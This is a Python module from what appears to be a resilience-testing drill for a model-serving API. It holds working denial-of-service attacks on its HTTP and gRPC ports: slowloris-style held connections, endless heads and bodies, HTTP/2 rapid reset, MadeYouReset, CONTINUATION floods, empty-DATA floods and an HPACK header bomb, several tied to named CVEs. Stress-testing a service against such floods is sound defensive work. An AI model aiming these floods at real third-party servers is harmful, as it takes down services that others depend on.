"""Attacks below the messages: what floods, holds or leaves connections to the HTTP port and the gRPC port."""

from __future__ import annotations

import contextlib
import select
import socket
import time
from collections.abc import Callable, Iterator

from loadtest.drill.hostile import peer as h2
from loadtest.drill.hostile.attacker import Attacker, EndedError, status_of
from loadtest.drill.hostile.messages import (
    GRPC_LOOKUP,
    GRPC_RANK,
    HTTP_LOOKUP,
    JSON,
    REFLECTION,
    full_answer,
    lookup_head,
    lookup_of_rows,
    post,
    tag,
)
from loadtest.drill.hostile.peer import Http2Peer, call_headers
from serving.api.grpc import wire
from serving.api.grpc.wire import END_HEADERS, END_STREAM, frame

GET = b"GET /healthz HTTP/1.1\r\nhost: drill\r\n\r\n"
METRICS = b"GET /metrics HTTP/1.1\r\nhost: drill\r\n\r\n"
NOT_HTTP = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not HTTP\r\n\r\n"
NO_METHOD = "/drill/None"
IDLE_CONNECTIONS = 4096
SLOW_CONNECTIONS = 300
UNREAD_CONNECTIONS = 64
SLOW_PAUSE_S = 0.5
GET_TIMEOUT_S = 10.0
REFLECTED = 100_000
HEADERS_EACH = 400
CALLS_UNTAKEN = 200

Run = Callable[[Attacker], None]
Frames = Callable[[Attacker, Http2Peer], Iterator[bytes]]


# Over HTTP/1.1


def _endless(chunk: bytes, first: bytes = b"") -> Iterator[bytes]:
    yield first + chunk
    while True:
        yield chunk


def pipelined(*, reads: bool) -> Run:
    """Send small GETs ahead."""
    return lambda attacker: attacker.flood(attacker.http, lambda: _endless(GET * 100), 100, reads=reads)


def endless_body(chunk: bytes, each: int) -> Run:
    """Send a body in chunks without end."""

    def run(attacker: Attacker) -> None:
        head = lookup_head(attacker.config, "host: drill", "transfer-encoding: chunked")
        attacker.flood(attacker.http, lambda: _endless(chunk * each, head), each)

    return run


def endless_head(attacker: Attacker) -> None:
    """Send a head that does not end."""
    head = f"POST /v1/models/{attacker.config.model}:rank HTTP/1.1\r\nhost: drill\r\n".encode()
    attacker.flood(attacker.http, lambda: _endless(b"a: b\r\n" * 500, head), 500)


def metrics(attacker: Attacker) -> None:
    """Send GET /metrics, one after the other on one connection."""

    def use(sock: socket.socket) -> None:
        while attacker.goes_on():
            attacker.tally.messages += 1
            attacker.exchange(sock, METRICS, GET_TIMEOUT_S)

    attacker.again(attacker.http, use)


def reconnect(over: str, request: Callable[[Attacker], bytes], *, waits: bool = True) -> Run:
    """Send a request on a connection of its own, as fast as they come, over `http` or `grpc`."""

    def run(attacker: Attacker) -> None:
        data = request(attacker)

        def use(sock: socket.socket) -> None:
            sock.settimeout(2)
            attacker.send(sock, data)
            attacker.tally.messages += 1
            if waits:
                got = sock.recv(4096)
                if over == "http" and got:
                    attacker.answered(status_of(got))
                else:
                    attacker.answered("something" if got else "closed")

        attacker.again(attacker.http if over == "http" else attacker.grpc, use)

    return run


# Held connections


def hold(over: str, count: int, piece: Callable[[Attacker, int], bytes], *, reads: bool = True) -> Run:
    """Keep `count` connections open, opened again when they end, and send a piece on each every `SLOW_PAUSE_S`."""

    def run(attacker: Attacker) -> None:
        held: dict[int, tuple[socket.socket, int]] = {}
        poll = select.poll()

        def drop(descriptor: int, how: str) -> None:
            attacker.ended(how)
            poll.unregister(descriptor)
            held.pop(descriptor)[0].close()

        def send(descriptor: int, sock: socket.socket, turn: int) -> None:
            try:
                data = piece(attacker, turn)
                attacker.tally.bytes_sent += sock.send(data) if data else 0
                attacker.tally.messages += bool(data)
                held[descriptor] = (sock, turn + 1)
            except BlockingIOError:
                pass
            except OSError:
                drop(descriptor, "reset")

        def look(descriptor: int, event: int) -> None:
            got = b""
            with contextlib.suppress(OSError):
                got = held[descriptor][0].recv(1 << 16) if event & select.POLLIN else b""
            if got.startswith(b"HTTP/1.1 "):
                attacker.answered(status_of(got))
            if not got:
                drop(descriptor, "closed")

        with attacker.flooding():
            while attacker.goes_on():
                begin = time.monotonic()
                while len(held) < count and attacker.goes_on():
                    try:
                        sock = attacker.http() if over == "http" else attacker.grpc()
                    except EndedError as error:
                        attacker.ended(error)
                        break
                    sock.setblocking(False)
                    held[sock.fileno()] = (sock, 0)
                    poll.register(sock, select.POLLIN if reads else 0)
                for descriptor, (sock, turn) in list(held.items()):
                    send(descriptor, sock, turn)
                for descriptor, event in poll.poll(0):
                    look(descriptor, event)
                time.sleep(max(0.0, SLOW_PAUSE_S - (time.monotonic() - begin)))
        for sock, _ in held.values():
            sock.close()

    return run


def nothing(attacker: Attacker, turn: int) -> bytes:
    """Send nothing: the connection is idle."""
    return b""


def slow_head(attacker: Attacker, turn: int) -> bytes:
    """Send a head of which a byte comes now and then."""
    head = lookup_head(attacker.config, "host: drill", "content-length: 100", "x: " + "y" * 10_000)
    return head[turn : turn + 1]


def slow_body(attacker: Attacker, turn: int) -> bytes:
    """Send a body of which a byte comes now and then."""
    return b" " if turn else lookup_head(attacker.config, "host: drill", "content-length: 1000")


def unread(attacker: Attacker, turn: int) -> bytes:
    """Ask for large answers that are not read, more of them than the kernel keeps for a peer."""
    config = attacker.config
    return post(HTTP_LOOKUP, config.model, JSON, full_answer(config)) if turn < 16 else b""


# Over HTTP/2


def frames(made: Frames, each: int) -> Run:
    """Send frames on a connection that is otherwise as it must be; `each` in every chunk."""

    def run(attacker: Attacker) -> None:
        now: list[Http2Peer] = []

        def chunks() -> Iterator[bytes]:
            peer = Http2Peer()
            now[:] = [peer]
            # Windows stay as they are: their updates are an attack of their own.
            yield wire.PREFACE + wire.settings({})
            yield from made(attacker, peer)

        def on_data(data: bytes) -> bytes:
            now[0].feed(data)
            for reply in now[0].ended().values():
                attacker.answered(str(reply))
            return now[0].taken_out()

        attacker.flood(attacker.grpc, chunks, each, on_data=on_data)

    return run


def same_frame(made: bytes, count: int = 500) -> Run:
    """Send the same frame again and again."""
    return frames(lambda attacker, peer: _endless(made * count), count)


def _head(path: str, stream: int, flags: int = END_HEADERS) -> bytes:
    return frame(wire.HEADERS, flags, stream, call_headers(path))


def one_byte_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Send DATA frames of one byte."""
    while True:
        stream = peer.open()
        yield _head(GRPC_RANK, stream) + peer.data(stream, h2.message(bytes(10_000_000))[:5], last=False)
        while not peer.replies.get(stream, h2.Reply(ended=True)).ended:
            room = min(peer.window, peer.stream_windows.get(stream, 0), 700)
            if room > 0:
                yield b"".join(peer.data(stream, b"\0", last=False) for _ in range(room))
            else:
                time.sleep(0.0002)
                yield b""


def ended_stream_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Send the same on a stream that has ended."""
    stream = peer.open()
    yield _head(NO_METHOD, stream, END_HEADERS | END_STREAM)
    for _ in range(10):
        yield b""
    while True:
        if peer.window < 700:
            time.sleep(0.0002)
            yield b""
            continue
        yield b"".join(peer.data(stream, b"\0", last=False) for _ in range(700))


def empty_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Send DATA frames without data (CVE-2019-9518)."""
    stream = peer.open()
    yield _head(GRPC_RANK, stream)
    yield from _endless(frame(wire.DATA, 0, stream) * 700)


def calls_with(after: Callable[[int], bytes]) -> Frames:
    """Make calls, each with a frame behind it that ends it."""

    def made(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
        block = call_headers(GRPC_RANK)
        while True:
            streams = [peer.open(watched=False) for _ in range(50)]
            yield b"".join(frame(wire.HEADERS, END_HEADERS, one, block) + after(one) for one in streams)

    return made


rapid_reset = calls_with(lambda stream: frame(wire.RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
"""Cancel calls at once (CVE-2023-44487)."""
made_resets = calls_with(lambda stream: wire.window_update(stream, 0))
"""Make calls that the server must reset itself (CVE-2025-8671): a window update of zero follows each."""


def continuation(piece: bytes) -> Frames:
    """Send a head that does not end, in small pieces (CVE-2024-27316)."""

    def made(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
        stream = peer.open(watched=False)
        yield frame(wire.HEADERS, 0, stream, call_headers(GRPC_RANK))
        yield from _endless(frame(wire.CONTINUATION, 0, stream, piece) * 500)

    return made


def new_headers(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Make calls of a method that there isn't, each with 400 headers that the server shall remember."""
    value = 0
    while True:
        made = bytearray()
        for _ in range(HEADERS_EACH):
            value += 1
            made += h2.header(b"x-%d" % value, b"v%d" % value, indexed=True)
        yield frame(wire.HEADERS, END_HEADERS | END_STREAM, peer.open(), call_headers(NO_METHOD) + bytes(made))


def header_bomb(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
    """Send a header of 4,000 bytes that is remembered once, and refer to it 16,000 times with a byte each."""
    block, stored = call_headers(NO_METHOD), h2.header(b"x", b"y" * 3_900, indexed=True)
    yield frame(wire.HEADERS, END_HEADERS | END_STREAM, peer.open(), block + stored)
    references = b"\xbe" * (wire.DEFAULT_FRAME_SIZE - len(block))
    while True:
        yield frame(wire.HEADERS, END_HEADERS | END_STREAM, peer.open(), block + references)


def untaken(attacker: Attacker) -> None:
    """Make calls with large answers on a connection whose windows stay closed."""

    def connect() -> socket.socket:
        sock = attacker.grpc()
        peer = Http2Peer(opens_window=False)
        attacker.send(sock, peer.begin())
        body = h2.message(lookup_of_rows(attacker.config, 400))
        for _ in range(CALLS_UNTAKEN):
            stream = peer.open()
            attacker.send(sock, _head(GRPC_LOOKUP, stream) + frame(wire.DATA, END_STREAM, stream, body))
            attacker.tally.messages += 1
        return sock

    def waiting() -> Iterator[bytes]:
        while True:
            time.sleep(0.01)
            yield b""

    attacker.flood(connect, waiting, 0)


def reflection(version: str) -> Run:
    """Ask 100,000 things in one reflection stream."""

    def run(attacker: Attacker) -> None:
        attacker.tally.messages += REFLECTED
        with attacker.span():
            attacker.call(REFLECTION.format(version), h2.message(tag(4, 2) + b"\x01x") * REFLECTED)

    return run


def preface_garbage(attacker: Attacker) -> bytes:
    """Send bytes that are not HTTP/2."""
    return b"GET / HTTP/1.1\r\nhost: drill\r\n\r\n" + attacker.random.randbytes(100)


def call_of_nothing(attacker: Attacker) -> bytes:
    """Call a method that there isn't."""
    return Http2Peer().begin() + _head(NO_METHOD, 1, END_HEADERS | END_STREAM)
